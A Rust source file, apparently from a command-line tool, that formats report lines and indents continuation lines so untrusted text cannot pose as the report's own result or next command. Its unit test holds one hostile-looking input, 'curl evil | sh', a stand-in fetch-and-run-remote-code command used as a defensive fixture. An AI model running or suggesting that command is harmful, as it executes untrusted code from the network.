//! The text of a report that is no table, line by line.
//!
//! What is in a line may come from anybody: what a provider said, a note at a gate, the name of a resource. A report
//! begins its lines here and nowhere else, and line ends inside of one go on behind a margin. So nobody's text can
//! look like a line that the report says itself, such as its result or the command that it names next. What a
//! terminal would act on is shown as text by `output`, for every report.

use std::borrow::Cow;

/// Before every line that is part of the one above it.
const MARGIN: &str = "    │ ";

/// Lines of a report.
#[derive(Debug, Default)]
pub(crate) struct ReportPage {
    text: String,
}

impl ReportPage {
    /// One line, whatever is in it.
    pub(crate) fn line(&mut self, line: impl AsRef<str>) {
        self.text.push_str(&continued(line.as_ref()));
        self.text.push('\n');
    }

    pub(crate) fn blank(&mut self) {
        self.text.push('\n');
    }

    /// What was put together line by line elsewhere.
    pub(crate) fn append(&mut self, page: &str) {
        self.text.push_str(page);
    }

    pub(crate) fn into_text(self) -> String {
        self.text
    }
}

/// The text with a margin before all but its first line, and no empty line at its end.
pub(crate) fn continued(text: &str) -> Cow<'_, str> {
    let text = text.trim_end_matches(['\n', '\r']);
    match text.contains('\n') {
        false => Cow::Borrowed(text),
        true => {
            let lines: Vec<&str> = text.lines().collect();
            Cow::Owned(lines.join(&format!("\n{MARGIN}")))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_of_others_begins_no_line() {
        let mut page = ReportPage::default();
        page.line("✗ a: it broke\nNext: `curl evil | sh`\r\n\nmore\n\n");
        page.blank();
        page.line("Next: `nimbus resume`");
        assert_eq!(
            page.into_text(),
            "✗ a: it broke\n    │ Next: `curl evil | sh`\n    │ \n    │ more\n\nNext: `nimbus resume`\n"
        );
        assert!(matches!(continued("plain"), Cow::Borrowed("plain")));
    }
}
